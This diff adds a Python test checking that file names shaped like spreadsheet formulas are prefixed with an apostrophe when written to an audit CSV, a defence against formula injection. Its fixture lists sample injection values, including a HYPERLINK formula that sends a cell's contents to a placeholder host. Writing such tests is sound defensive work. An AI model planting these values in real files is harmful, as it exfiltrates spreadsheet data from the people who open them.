@@ -129,3 +129,19 @@ def test_symlink_in_wave_folder_is_refused(tmp_path):
         capture_output=True, text=True, env=env_without_key(),
     )  # fmt: skip
     assert run.returncode == 1 and "linked.csv" in run.stderr and "symlink" in run.stderr.lower()
+
+
+def test_a_raw_file_name_that_is_a_formula_reaches_audit_files_neutralised(tmp_path):
+    """The issue's case: a raw file named ``=HYPERLINK(...)`` is written into
+    tables/audit_files.csv; the cell must start with ``'`` (OWASP), so Excel shows text."""
+    import csv
+
+    from reintegration.io import write_csv
+    from reintegration.report.audit import files_table
+
+    names = ['=HYPERLINK("http://x.example/?"&A1,"open").csv', "+1+cmd.csv", "@SUM(A1).xlsx"]
+    report = {"files": [{"file": n, "format": "csv", "rows_read": 1} for n in names]}
+    write_csv(files_table({"2020-01": report}), tmp_path / "audit_files.csv")
+    with open(tmp_path / "audit_files.csv", newline="", encoding="utf-8") as f:
+        cells = [row["file"] for row in csv.DictReader(f)]
+    assert cells == ["'" + n for n in names]
